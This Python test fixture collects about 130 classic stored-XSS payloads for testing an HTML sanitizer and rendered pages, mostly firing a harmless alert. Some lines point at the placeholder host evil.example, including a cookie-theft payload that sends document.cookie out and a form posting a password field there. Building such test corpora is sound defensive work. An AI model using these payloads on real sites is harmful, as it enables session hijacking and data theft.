"""
Classic stored-XSS payloads, each with an id, for the cleaner (test_sanitize),
the stored and rendered pages (test_xss) and a real browser (browser/test_xss).

Every payload that could run calls SINK, so a browser notices it either way:
the global __xss is set and a dialog opens.
"""

import base64

SINK = "__xss=1,alert(1)"


def entities(text, hexadecimal=False, width=0):
    """Every character of text as a numeric character reference (&#106; or &#x6A;)."""
    if hexadecimal:
        return "".join(f"&#x{ord(char):0{width}X};" for char in text)
    return "".join(f"&#{ord(char):0{width}d};" for char in text)


def base64_of(text):
    return base64.b64encode(text.encode()).decode()


SCRIPT = f"<script>{SINK}</script>"
SVG_DOCUMENT = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SINK}"/>'

PAYLOADS = [
    # --- <script> in every casing and spelling ---------------------------------------
    ("script-lowercase", SCRIPT),
    ("script-uppercase", f"<SCRIPT>{SINK}</SCRIPT>"),
    ("script-mixed-case", f"<ScRiPt>{SINK}</sCrIpT>"),
    ("script-external", '<script src="https://evil.example/x.js"></script>'),
    ("script-protocol-relative", "<script src=//evil.example/x.js></script>"),
    ("script-slash-attribute", f"<script/xss>{SINK}</script>"),
    ("script-newline-in-tag", f"<script\n>{SINK}</script\n>"),
    ("script-tab-in-tag", f"<script\ttype=text/javascript>{SINK}</script\t>"),
    ("script-double-open", f"<<script>{SINK}//<</script>"),
    ("script-split-by-script", f"<scr<script>ipt>{SINK}</scr</script>ipt>"),
    ("script-after-safe-text", f"<p>safe</p><script>{SINK}</script>"),
    (
        "script-cookie-theft",
        "<script>new Image().src='https://evil.example/?'+document.cookie</script>",
    ),
    ("script-in-comment", f"<!--<script>{SINK}</script>-->"),
    ("script-comment-breakout", f"<!-- --!><script>{SINK}</script> -->"),
    ("script-in-cdata", f"<![CDATA[<script>{SINK}</script>]]>"),
    ("script-in-attribute", f'<p title="</p><script>{SINK}</script>">x</p>'),
    ("script-closes-json-ld", f"</script><script>{SINK}</script>"),
    ("script-closes-json-ld-uppercase", f"</SCRIPT ><SCRIPT>{SINK}</SCRIPT>"),
    ("script-closes-title", f"</title><script>{SINK}</script>"),
    ("script-closes-textarea", f"</textarea><script>{SINK}</script>"),
    ("script-entity-encoded", "&lt;script&gt;__xss=1,alert(1)&lt;/script&gt;"),
    (
        "script-numeric-entities",
        "&#60;script&#62;__xss=1,alert(1)&#60;/script&#62;",
    ),
    ("script-percent-encoded", "%3Cscript%3E__xss=1,alert(1)%3C/script%3E"),
    ("script-utf7", "+ADw-script+AD4-__xss=1,alert(1)+ADw-/script+AD4-"),
    ("script-fullwidth", "\uff1cscript\uff1e__xss=1,alert(1)\uff1c/script\uff1e"),
    # --- Event-handler attributes -----------------------------------------------------
    ("img-onerror-quoted", f'<img src="/media/x.png" alt="x" onerror="{SINK}">'),
    ("img-onerror-unquoted", f"<img src=x onerror={SINK}>"),
    ("img-onerror-uppercase", f"<IMG SRC=/media/x.png ALT=x ONERROR={SINK}>"),
    ("img-slash-separated", f'<img/src="x"/onerror={SINK}>'),
    ("img-backtick-attribute", f"<img src=`x` onerror=`{SINK}`>"),
    ("img-eval-of-alt", "<img src=x:y alt=__xss=1,alert(1) onerror=eval(alt)>"),
    ("body-onload", f'<body onload="{SINK}"><p>hi</p></body>'),
    ("body-onpageshow", f"<body onpageshow={SINK}>"),
    ("p-onclick", f'<p onclick="{SINK}">click</p>'),
    ("a-onmouseover", f'<a href="https://example.org" onmouseover="{SINK}">hover</a>'),
    ("h2-onfocus-autofocus", f'<h2 onfocus="{SINK}" tabindex="0" autofocus>x</h2>'),
    ("div-onpointerenter", f"<div onpointerenter={SINK}>x</div>"),
    (
        "details-ontoggle",
        f'<details open ontoggle="{SINK}"><summary>x</summary></details>',
    ),
    ("video-source-onerror", f'<video><source onerror="{SINK}"></video>'),
    ("audio-onerror", f'<audio src=x onerror="{SINK}"></audio>'),
    ("input-autofocus-onfocus", f"<input autofocus onfocus={SINK}>"),
    ("select-autofocus-onfocus", f"<select autofocus onfocus={SINK}></select>"),
    (
        "textarea-autofocus-onfocus",
        f'<textarea autofocus onfocus="{SINK}">x</textarea>',
    ),
    ("marquee-onstart", f"<marquee onstart={SINK}>x</marquee>"),
    ("attribute-breakout-double-quote", f'" onmouseover="{SINK}" x="'),
    ("attribute-breakout-single-quote", f"' onmouseover='{SINK}' x='"),
    ("attribute-breakout-to-tag", f'"><img src=x onerror={SINK}>'),
    # --- javascript:, vbscript: and data: URLs ---------------------------------------
    ("href-javascript", f'<a href="javascript:{SINK}">x</a>'),
    ("href-javascript-mixed-case", f'<a href="JaVaScRiPt:{SINK}">x</a>'),
    ("href-javascript-leading-space", f'<a href=" javascript:{SINK}">x</a>'),
    ("href-javascript-newline", f'<a href="java\nscript:{SINK}">x</a>'),
    ("href-javascript-tab", f'<a href="java\tscript:{SINK}">x</a>'),
    ("href-javascript-carriage-return", f'<a href="java\rscript:{SINK}">x</a>'),
    ("href-javascript-tab-entity", f'<a href="java&#x09;script:{SINK}">x</a>'),
    ("href-javascript-newline-entity", f'<a href="jav&#x0A;ascript:{SINK}">x</a>'),
    ("href-javascript-space-entity", f'<a href="&#x20;javascript:{SINK}">x</a>'),
    (
        "href-javascript-decimal-entities",
        f'<a href="{entities("javascript:")}{SINK}">x</a>',
    ),
    (
        "href-javascript-hex-entities",
        f'<a href="{entities("javascript", hexadecimal=True)}:{SINK}">x</a>',
    ),
    (
        "href-javascript-padded-entities",
        f'<a href="{entities("javascript:", width=7)}{SINK}">x</a>',
    ),
    ("href-javascript-named-colon", f'<a href="javascript&colon;{SINK}">x</a>'),
    ("href-javascript-comment-newline", f'<a href="javascript://%0a{SINK}">x</a>'),
    ("href-javascript-unquoted", f"<a href=javascript:{SINK}>x</a>"),
    (
        "href-javascript-polyglot",
        '<a href="jaVasCript:/*-/*`/*\\`/*\'/**/(/* */oNcliCk=__xss=1,alert(1) )//">x</a>',
    ),
    ("href-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("href-vbscript-uppercase", '<a href="VBSCRIPT:msgbox(1)">x</a>'),
    (
        "href-data-html-base64",
        f'<a href="data:text/html;base64,{base64_of(SCRIPT)}">x</a>',
    ),
    (
        "href-data-html-plain",
        '<a href="DATA:text/html,&lt;script&gt;__xss=1&lt;/script&gt;">x</a>',
    ),
    (
        "img-data-svg",
        f'<img src="data:image/svg+xml;base64,{base64_of(SVG_DOCUMENT)}" alt="x">',
    ),
    ("img-javascript", f'<img src="javascript:{SINK}" alt="x">'),
    # --- SVG and MathML ------------------------------------------------------------------
    ("svg-onload", f"<svg onload={SINK}>"),
    ("svg-slash-onload", f"<svg/onload={SINK}>"),
    ("svg-script", f"<svg><script>{SINK}</script></svg>"),
    ("svg-script-href", '<svg><script href="https://evil.example/x.js"/></svg>'),
    (
        "svg-xlink-href",
        f'<svg><a xlink:href="javascript:{SINK}"><text>x</text></a></svg>',
    ),
    (
        "svg-animate-onbegin",
        f'<svg><animate onbegin="{SINK}" attributeName="x"/></svg>',
    ),
    (
        "svg-animate-href",
        (
            f'<svg><a><animate attributeName="href" values="javascript:{SINK}"/>'
            "<text>x</text></a></svg>"
        ),
    ),
    ("svg-set-handler", f'<svg><set attributeName="onmouseover" to="{SINK}"/></svg>'),
    (
        "svg-foreign-object",
        f"<svg><foreignObject><iframe srcdoc='{SCRIPT}'></iframe></foreignObject></svg>",
    ),
    ("svg-style-namespace", f"<svg><style><img src=x onerror={SINK}></style></svg>"),
    (
        "svg-style-mutation",
        f'<svg></p><style><a id="</style><img src=1 onerror={SINK}>">',
    ),
    ("math-href", f'<math href="javascript:{SINK}">x</math>'),
    (
        "math-maction",
        (
            f'<math><maction actiontype="statusline" xlink:href="javascript:{SINK}">'
            "x</maction></math>"
        ),
    ),
    # --- <style>, <link>, <meta>, <iframe>, <object>, <embed>, <base> ---------------
    ("style-url", f"<style>body{{background:url(javascript:{SINK})}}</style>"),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style-expression", f"<style>*{{width:expression({SINK})}}</style>"),
    ("style-attribute-expression", f'<p style="width: expression({SINK})">x</p>'),
    (
        "style-attribute-comment-expression",
        f'<div style="x:expr/**/ession({SINK})">x</div>',
    ),
    (
        "style-attribute-url",
        f'<div style="background-image: url(javascript:{SINK})">x</div>',
    ),
    (
        "style-attribute-behavior",
        '<div style="behavior: url(https://evil.example/x.htc)">x</div>',
    ),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    (
        "meta-refresh-javascript",
        f'<meta http-equiv="refresh" content="0;url=javascript:{SINK}">',
    ),
    (
        "meta-refresh-elsewhere",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    ),
    ("meta-charset", '<meta charset="UTF-7">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("base-javascript", '<base href="javascript:/">'),
    ("iframe-javascript", f'<iframe src="javascript:{SINK}"></iframe>'),
    ("iframe-data", f'<iframe src="data:text/html,{SCRIPT}"></iframe>'),
    ("iframe-elsewhere", '<iframe src="https://evil.example/"></iframe>'),
    ("frameset", '<frameset><frame src="https://evil.example/"></frameset>'),
    ("object-data", '<object data="https://evil.example/x.swf"></object>'),
    ("object-javascript", f'<object data="javascript:{SINK}"></object>'),
    ("embed-src", '<embed src="https://evil.example/x.swf">'),
    ("embed-javascript", f'<embed src="javascript:{SINK}">'),
    # --- srcdoc ------------------------------------------------------------------------
    (
        "srcdoc-escaped",
        f'<iframe srcdoc="&lt;script&gt;{SINK}&lt;/script&gt;"></iframe>',
    ),
    ("srcdoc-raw", f"<iframe srcdoc='{SCRIPT}'></iframe>"),
    ("srcdoc-on-paragraph", f'<p srcdoc="{SCRIPT}">x</p>'),
    # --- Forms -------------------------------------------------------------------------
    (
        "form-action-elsewhere",
        '<form action="https://evil.example/"><input name="password"></form>',
    ),
    (
        "form-action-javascript",
        f'<form action="javascript:{SINK}"><button>Go</button></form>',
    ),
    ("button-formaction", f'<button formaction="javascript:{SINK}">Go</button>'),
    (
        "button-form-attribute",
        f'<form id="f"></form><button form="f" formaction="javascript:{SINK}">Go</button>',
    ),
    (
        "input-formaction",
        f'<input type="submit" formaction="javascript:{SINK}" value="Go">',
    ),
    ("input-image-onerror", f'<input type="image" src="x" onerror="{SINK}">'),
    ("isindex", f'<isindex action="javascript:{SINK}" type="submit">'),
    # --- Template injection: stored text is never rendered as a template --------------
    ("django-variable", "{{ 7*7 }} {{ settings.SECRET_KEY }} {{ request.META }}"),
    ("django-tag", "{% debug %}{% load static %}{% csrf_token %}"),
    ("angular-sandbox-escape", "{{constructor.constructor('__xss=1,alert(1)')()}}"),
    ("other-template-syntax", "${7*7} #{7*7} <%= 7*7 %>"),
    # --- Images from another host (patient pages request nothing from elsewhere) ------
    ("img-elsewhere", '<img src="https://evil.example/tracker.png" alt="tracker">'),
    ("img-protocol-relative", '<img src="//evil.example/tracker.png" alt="tracker">'),
    (
        "img-elsewhere-media-path",
        '<img src="http://evil.example/media/tracker.png" alt="tracker">',
    ),
    # --- <template> and parser mutation, last ----------------------------------------
    ("template-script", f"<template><script>{SINK}</script></template>"),
    (
        "noscript-mutation",
        f'<noscript><p title="</noscript><img src=x onerror={SINK}>"></noscript>',
    ),
    ("xmp-mutation", f"<xmp><img src=x onerror={SINK}></xmp>"),
    # Each of these turns the rest of a text into script, raw text or nothing, so
    # only the first is parsed fresh in corpus(); alone, each is (one per step).
    ("script-unclosed", f"<script>{SINK}"),
    (
        "math-style-mutation",
        f'<math><mtext><table><mglyph><style><img src=x onerror="{SINK}">',
    ),
    ("plaintext", f"<plaintext><img src=x onerror={SINK}>"),
]

PAYLOAD_IDS = [payload_id for payload_id, _payload in PAYLOADS]

# Text a template-injection payload would turn into something else if it were run.
TEMPLATE_TEXT = ["{{ 7*7 }}", "{% debug %}", "${7*7}"]


def corpus():
    """All payloads in one piece of text, for a field without a length limit."""
    return "\n".join(payload for _payload_id, payload in PAYLOADS)


def chunks(max_length):
    """
    The payloads packed, in order, into as few pieces as fit a field of
    max_length characters; a longer payload is cut to fit.
    """
    pieces, current = [], ""
    for _payload_id, payload in PAYLOADS:
        payload = payload[:max_length]
        if current and len(current) + 1 + len(payload) > max_length:
            pieces.append(current)
            current = ""
        current = f"{current} {payload}" if current else payload
    pieces.append(current)
    return pieces
